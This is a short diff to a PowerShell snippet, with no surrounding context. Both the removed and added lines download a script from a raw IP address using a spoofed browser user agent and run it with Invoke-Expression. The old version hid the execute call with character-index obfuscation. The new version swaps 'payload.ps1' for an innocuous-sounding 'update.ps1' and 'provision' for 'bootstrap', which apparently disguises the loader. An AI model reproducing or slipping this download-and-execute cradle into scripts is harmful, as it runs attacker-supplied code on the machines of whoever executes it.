@@ -1,7 +1,7 @@
-'# provision 9788 v2
-$u = ''http://198.51.100.9:8080/''
+Invoke-Expression -Command '# bootstrap 8543 v2
+$u = ''http://192.0.2.44:443/''
 $wc = New-Object System.Net.WebClient
 $wc.Headers.Add(''User-Agent'',''Mozilla/5.0'')
-$s = $wc.DownloadString($u + ''payload.ps1'')
+$s = $wc.DownloadString($u + ''update.ps1'')
 Invoke-Expression $s
-' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
+'
